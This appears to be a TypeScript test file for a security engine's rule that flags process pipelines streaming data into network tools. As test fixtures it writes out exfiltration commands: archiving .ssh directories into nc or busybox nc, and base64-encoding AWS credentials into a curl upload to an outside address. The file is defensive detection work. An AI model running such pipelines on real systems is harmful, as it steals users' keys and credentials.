import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { EventV1 } from '@vigil/schema';
import { builtinEngine, connect, execWithStdio, loud, pipeFd, ttyFd } from '../testing.js';

const RULE = 'exfil.pipe-to-network';
const run = (...events: EventV1[]) => {
  const { engine, alerts } = builtinEngine();
  engine.process(events);
  return alerts.filter((a) => a.ruleId === RULE).map((a) => [a.severity, a.reason] as const);
};
const writer = (argv: string[], pid = 10) => execWithStdio(argv, [ttyFd(0), pipeFd(1, 99), ttyFd(2)], { pid });
const sender = (argv: string[], pid = 11) => execWithStdio(argv, [pipeFd(0, 99), ttyFd(1), ttyFd(2)], { pid });

test('exfil.pipe-to-network: an ssh directory archived into nc is critical off this host, high on loopback, naming both ends', () => {
  const tar = writer(['tar', 'czf', '-', '-C', '/home/u', '.ssh']);
  const far = run(tar, sender(['nc', '203.0.113.7', '9000']), connect('203.0.113.7', 9000, { pid: 11 }));
  assert.equal(far.at(-1)?.[0], 'critical');
  assert.match(
    far.at(-1)![1],
    /nc \(pid 11\) sends over the network what tar \(pid 10\) writes into pipe 99 \(tar reading credential file \.ssh/,
  );
  assert.match(far.at(-1)![1], /to 203\.0\.113\.7:9000/);
  const near = run(writer(['tar', 'czf', '-', '/home/u/.ssh']), sender(['ncat', '127.0.0.1', '4444']));
  assert.deepEqual(
    near.map(([s]) => s),
    ['high'],
  );
});

test('exfil.pipe-to-network: an encoded credential file uploaded by curl from stdin raises, whichever exec comes first', () => {
  const curl = sender(['curl', '-s', '-d', '@-', 'http://198.51.100.9/c']);
  const b64 = writer(['base64', '-w0', '/home/u/.aws/credentials']);
  assert.equal(run(curl, b64)[0]?.[0], 'critical');
  assert.match(run(b64, curl)[0]![1], /base64 reading credential file \/home\/u\/\.aws\/credentials/);
});

test('exfil.pipe-to-network: an archive uploaded is medium to a named web host or loopback, high to an address off this host', () => {
  const tar = () => writer(['tar', 'cf', '-', 'ckpt']);
  assert.deepEqual(
    run(tar(), sender(['curl', '-T', '-', 'https://bucket.s3.amazonaws.com/ckpt.tar'])).map(([s]) => s),
    ['medium'],
  );
  assert.deepEqual(
    run(tar(), sender(['curl', '--data-binary', '@-', 'http://203.0.113.7:8000/u'])).map(([s]) => s),
    ['high'],
  );
});

test('exfil.pipe-to-network: nothing for metrics posted from cat, a curl that does not send its stdin, or ordinary pipes', () => {
  assert.deepEqual(
    run(writer(['cat', 'metrics.json']), sender(['curl', '--data-binary', '@-', 'http://10.0.0.5/api'])),
    [],
  );
  assert.deepEqual(run(writer(['tar', 'cf', '-', 'ckpt']), sender(['curl', '-s', 'http://10.0.0.5/health'])), []);
  assert.deepEqual(run(writer(['tar', 'cf', '-', 'ckpt']), sender(['tar', 'xf', '-'])), []);
  const { engine, alerts } = builtinEngine();
  engine.process([writer(['tar', 'czf', '-', 'ckpt']), sender(['ncat', '--send-only', '127.0.0.1', '9000'])]);
  assert.deepEqual(loud(alerts), []);
});

test('exfil.pipe-to-network: busybox applets are the tools they name (busybox nc)', () => {
  const got = run(writer(['tar', 'cf', '-', '/root/.ssh']), sender(['busybox', 'nc', '203.0.113.7', '9000']));
  assert.deepEqual(
    got.map(([s]) => s),
    ['critical'],
  );
});
